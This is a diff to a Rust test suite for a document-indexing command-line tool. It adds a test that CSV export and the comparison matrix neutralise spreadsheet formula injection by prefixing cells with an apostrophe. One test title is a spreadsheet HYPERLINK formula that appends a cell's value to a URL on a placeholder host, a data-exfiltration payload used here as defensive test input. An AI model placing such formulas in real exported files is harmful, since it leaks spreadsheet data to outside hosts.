@@ -490,6 +490,31 @@ fn export_csv_reads_back_with_every_field_and_aao_intact() {
 }
 
 #[test]
+fn csv_cells_a_spreadsheet_would_run_as_formulas_are_text() {
+    let env = Env::with_seeds();
+    std::fs::create_dir(env.join("pages")).unwrap();
+    let titles =
+        ["=HYPERLINK(\"http://example.org/?x=\"&A1,\"Klicka\")", "+SUM(1+1)", "@A1", "Tredje"];
+    for (n, title) in titles.iter().enumerate() {
+        let text = format!("# {title}\n\nVi arbetar med arbetsmarknad och kompetens.\n");
+        std::fs::write(env.join(&format!("pages/{n}.md")), text).unwrap();
+    }
+    env.ok(&["index", "pages"]);
+    let (header, rows) = read_csv(&env.run(&["export", "--format", "csv"]).stdout);
+    let title = header.iter().position(|column| column == "title").unwrap();
+    let exported: Vec<&str> = rows.iter().map(|row| row[title].as_str()).collect();
+    assert_eq!(
+        exported,
+        ["'=HYPERLINK(\"http://example.org/?x=\"&A1,\"Klicka\")", "'+SUM(1+1)", "'@A1", "Tredje"]
+    );
+    let ids = ["pages/0.md", "pages/1.md", "pages/2.md", "pages/3.md"];
+    let matrix = env.ok(&[&["compare", "--csv"][..], &ids].concat());
+    let (_, rows) = read_csv(matrix.as_bytes());
+    let titles: Vec<&str> = rows.iter().map(|row| row[1].as_str()).collect();
+    assert_eq!(titles, exported);
+}
+
+#[test]
 fn export_options_file_sort_filters_and_no_bom() {
     let env = Env::indexed();
     let out = env.ok(&["export", "-o", "out.csv", "--no-bom", "--no-sections", "--sort", "grant"]);
@@ -575,8 +600,7 @@ fn ids_resolve_without_their_extension_and_through_dot_dot() {
     assert_eq!(
         env.fails(&["show", "003_2b3fa1d7a6e76dce.md"], 2),
         "projsok: 003_2b3fa1d7a6e76dce.md: no document with this id in the index; closest: \
-         seeds/003_2b3fa1d7a6e76dce.txt, seeds/004_2c34cdba5d9fc759.txt, \
-         seeds/000_cea40166ddf3072c.txt\n"
+         seeds/003_2b3fa1d7a6e76dce.txt\n"
     );
 }
 
